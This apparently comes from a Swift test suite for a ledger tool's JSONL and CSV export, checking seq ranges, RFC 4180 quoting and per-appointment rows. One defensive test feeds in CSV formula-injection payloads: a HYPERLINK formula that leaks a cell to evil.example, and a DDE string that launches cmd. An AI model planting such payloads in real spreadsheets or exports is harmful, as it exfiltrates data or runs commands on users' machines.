import EventLog
import Foundation
import IntakeQ
import JSONCore
import Ledger
import Projections
import TestSupport
import Testing

extension AuditTests {
    /// `cat DIR/log/*.seg | lz4 -dc`, split into lines (without their '\n').
    func stockToolLines(_ store: String) async throws -> [[UInt8]] {
        let r = try await runProcess("/bin/sh", ["-c", "cat \"$0\"/log/*.seg | lz4 -dc", store])
        #expect(r.code == 0, "\(r.stderr)")
        #expect(r.stdout.last == 10)
        return r.stdout.split(separator: 10, omittingEmptySubsequences: false).dropLast().map(Array.init)
    }

    @Test func jsonlExportEqualsTheStoredLines() async throws {
        let t = try await Timeline.get()
        let lines = try await stockToolLines(t.store)
        let head = t.finalHead.seq
        #expect(UInt64(lines.count) == head)
        for (i, line) in lines.enumerated() {
            #expect(line.starts(with: Array("{\"seq\":\(i + 1),".utf8)), "line \(i + 1)")
        }
        func expected(_ a: UInt64, _ b: UInt64) -> [UInt8] {
            lines[Int(a - 1)..<Int(b)].flatMap { $0 + [10] }
        }
        let d1 = t.days[0].head.seq
        let ranges: [(UInt64?, UInt64?)] = [(nil, nil), (1, 1), (1, d1), (d1, d1 + 1), (5, head - 20), (d1 + 1, t.days[2].head.seq),
                                            (head, head), (head - 7, nil), (nil, 3), (150, head + 50)]
        for (a, b) in ranges {
            var args = ["export", "--format", "jsonl"]
            if let a { args += ["--from-seq", String(a)] }
            if let b { args += ["--to-seq", String(b)] }
            let r = try await syncledger(t.store, args: args)
            #expect(r.code == 0, "\(args): \(r.stderr)")
            #expect(r.stdout == expected(a ?? 1, min(b ?? head, head)), "\(args)")
        }
        // A --from-seq past the end is one line and exit 1, in both formats (it printed nothing, or
        // a CSV header, with exit 0, where `log` says it is past the head); the head's seq + 1,
        // an auditor's next export on a quiet store, exports nothing with exit 0, as `log`.
        for format in ["jsonl", "csv"] {
            let past = try await syncledger(t.store, "export", "--format", format, "--from-seq", String(head + 2))
            #expect(past.code == 1 && past.stdout.isEmpty, "\(format): \(past.all)")
            // (Contains: other tests on this shared store may leave a "last verify failed" warning.)
            #expect(past.stderr.hasSuffix("syncledger: --from-seq \(head + 2) is past the log's end (seq \(head)); nothing was exported\n"), "\(format): \(past.stderr)")
        }
        let next = try await syncledger(t.store, "export", "--format", "jsonl", "--from-seq", String(head + 1))
        #expect(next.code == 0 && next.stdout.isEmpty && !next.stderr.contains("syncledger:"), "\(next.all)")
        // --out FILE writes the same bytes.
        let dir = try makeTempDir("jsonl")
        defer { removeTree(dir) }
        let r = try await syncledger(t.store, "export", "--format", "jsonl", "--from-seq", "10", "--to-seq", "120", "--out", dir + "/e.jsonl")
        #expect(r.code == 0 && r.stdout.isEmpty, "\(r.all)")
        #expect(try readFile(dir + "/e.jsonl") == expected(10, 120))
    }

    /// IntakeQ's free text reaches an auditor's spreadsheet: a cell that would run as a formula
    /// is given a leading `'` (it was written as it came, `=HYPERLINK(…)` included; hostile test).
    @Test func csvCellsThatWouldRunAsFormulasAreDefused() throws {
        #expect(Export.csvField(#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#)
                == #""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#)
        #expect(Export.csvField("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(Export.csvField("+1 555 0100") == "'+1 555 0100")
        #expect(Export.csvField("-x") == "'-x")
        #expect(Export.csvField("\tcmd") == "'\tcmd")
        #expect(Export.csvField("\r=1") == "\"'\r=1\"")
        // Numbers, and text that starts otherwise, are as they were.
        #expect(Export.csvField("-12") == "-12")
        #expect(Export.csvField("+3.5") == "+3.5")
        #expect(Export.csvField("Downtown Office") == "Downtown Office")
        #expect(Export.csvField("a=b, c") == "\"a=b, c\"")
        #expect(Export.csvField("") == "")
    }

    @Test func csvExportParsesBackToOneRowPerAppointmentVersion() async throws {
        let t = try await Timeline.get()
        let r = try await syncledger(t.store, "export", "--format", "csv")
        #expect(r.code == 0, "\(r.stderr)")
        #expect(r.out.hasSuffix("\r\n"), "RFC 4180 line ends")
        let records = try parseCSV(r.out)
        let header = try #require(records.first)
        #expect(header == Export.csvColumns)
        let rows = records.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
        for (i, rec) in records.enumerated() { #expect(rec.count == header.count, "record \(i)") }

        // One row per appointment.* event, in seq order.
        var versions: [(seq: String, type: String)] = []
        for line in try await stockToolLines(t.store) {
            let e = try parseJSON(line)
            if let type = e["type"]?.stringValue, type.hasPrefix("appointment.") {
                versions.append((text(e["seq"]) ?? "?", type))
            }
        }
        #expect(rows.count == versions.count)
        #expect(rows.map { $0["seq"] ?? "" } == versions.map(\.seq))
        #expect(rows.map { $0["event_type"] ?? "" } == versions.map(\.type))
        let discovered = t.days.reduce(0) { $0 + $1.counts.new }
        #expect(rows.filter { $0["event_type"] == "appointment.discovered" }.count == discovered)

        // The roster in force: client id → (organization, patient).
        let roster = try parseJSON(try readFile(Paths.fixtures + "/roster.json"))
        var members: [String: (String, String)] = [:]
        for o in roster["organizations"]?.arrayValue ?? [] {
            for p in o["patients"]?.arrayValue ?? [] {
                members[text(p["intakeq_client_id"]) ?? ""] = (o["id"]?.stringValue ?? "", p["id"]?.stringValue ?? "")
            }
        }

        // The rows of single appointments match their history, version by version.
        let reader = try t.reader(), views = try t.views()
        for name in ["link_added_d2", "link_changed_d3", "cancel_d2", "reschedule_d2", "delete_d2", "vanish_d3"] {
            let id = try t.trap(name)
            let history = try History.of(id, reader: reader, views: views)
            let mine = rows.filter { $0["appointment_id"] == id }
            try #require(mine.count == history.count, "\(name): \(mine.count) rows, \(history.count) versions")
            var state: [String: String] = [:]
            for (row, h) in zip(mine, history) {
                for c in h.changes where c.field.hasPrefix("view.") { state[String(c.field.dropFirst(5))] = text(c.to) ?? "" }
                #expect(row["seq"] == String(h.seq), "\(name)")
                #expect(row["recorded_at"] == h.at)
                #expect(row["run"] == h.run)
                #expect(row["sync_type"] == h.syncType)
                #expect(row["event_type"] == h.type)
                #expect(row["last_modified"] == (h.lastModified ?? ""))
                for col in ["status", "start_at", "end_at", "meeting_url", "visit_type", "location_name", "location_id", "practitioner_name"] {
                    #expect(row[col] == (state[col] ?? ""), "\(name) seq \(h.seq) \(col)")
                }
                let intakeq = h.changes.filter { !$0.field.hasPrefix("view.") }.map(\.field)
                switch h.type {
                case "appointment.changed":
                    #expect(Set((row["changed_fields"] ?? "").split(separator: ";").map(String.init)) == Set(intakeq), "\(name) seq \(h.seq)")
                case "appointment.removed":
                    #expect(row["changed_fields"] == "removed")
                default:
                    #expect(row["changed_fields"] == "")
                }
                let object = t.object(id, day: 1)
                let client = text(object?["ClientId"]) ?? ""
                #expect(row["intakeq_client_id"] == client)
                #expect(row["organization_id"] == members[client]?.0 && row["patient_id"] == members[client]?.1, "\(name)")
            }
        }

        // --from-seq / --to-seq keep the header and only the rows in range.
        let a = t.days[1].head.seq, b = t.days[3].head.seq
        let part = try await syncledger(t.store, "export", "--format", "csv", "--from-seq", String(a), "--to-seq", String(b))
        let partRecords = try parseCSV(part.out)
        #expect(partRecords.first == Export.csvColumns)
        let expectedPart = rows.filter { UInt64($0["seq"] ?? "0").map { $0 >= a && $0 <= b } ?? false }
        #expect(partRecords.count - 1 == expectedPart.count)
        #expect(partRecords.dropFirst().map { $0.first ?? "" } == expectedPart.map { $0["seq"] ?? "" })
        // Same rows as the full export (organization, patient and sync type come from events before the range).
        let fullBySeq = Dictionary(uniqueKeysWithValues: records.dropFirst().map { ($0[0], $0) })
        for rec in partRecords.dropFirst() { #expect(rec == fullBySeq[rec[0]], "seq \(rec[0])") }
    }

    /// Commas, quotes and line breaks in values survive the CSV round trip (RFC 4180 quoting).
    @Test func csvQuotesCommasQuotesAndLineBreaks() async throws {
        let dir = try makeTempDir("csvquote")
        defer { removeTree(dir) }
        let store = try Store.openOrCreate(dir + "/store")
        let location = "Suite 4, \"North\" wing\r\nback door"
        let practitioner = "Lee, Jordan \"JL\""
        let objectText = "{\"Id\":\"csvquote00000000000000a1\",\"ClientId\":4101,\"Status\":\"Confirmed\",\"StartDate\":1797103500000,"
            + "\"EndDate\":1797106500000,\"LocationName\":\(jsonQuoted(location)),\"LocationId\":\"1\","
            + "\"PractitionerName\":\(jsonQuoted(practitioner)),\"LastModified\":1795075557000}"
        let object = Array(objectText.utf8)
        let hash = contentHash(of: try parseJSON(object))
        do {
            let writer = try LedgerWriter(store: store)
            defer { writer.close() }
            let obs = AppointmentObservation(appointmentId: "csvquote00000000000000a1", contentHash: hash, changedFields: [], object: object)
            try writer.append([NewEvent(type: .appointmentDiscovered, run: nil, stream: Streams.appointment("csvquote00000000000000a1"),
                                        data: obs.encodeData(includeChangedFields: false))])
        }
        let r = try await syncledger(store.path, "export", "--format", "csv")
        #expect(r.code == 0, "\(r.all)")
        #expect(r.out.contains("\"Suite 4, \"\"North\"\" wing\r\nback door\""), "\(r.out)")
        let records = try parseCSV(r.out)
        try #require(records.count == 2, "\(records)")
        let row = Dictionary(uniqueKeysWithValues: zip(records[0], records[1]))
        #expect(row["location_name"] == location)
        #expect(row["practitioner_name"] == practitioner)
        #expect(row["appointment_id"] == "csvquote00000000000000a1")
        #expect(row["start_at"] == iso(millis: 1_797_103_500_000))
        #expect(row["content_hash"] == hash)
        #expect(row["status"] == "confirmed")

        // The parser itself: the RFC 4180 cases.
        #expect(try parseCSV("a,\"b,c\",\"d\"\"e\"\r\n,\"\",x\r\n") == [["a", "b,c", "d\"e"], ["", "", "x"]])
        #expect(try parseCSV("\"multi\r\nline\",2\r\n") == [["multi\r\nline", "2"]])
    }
}
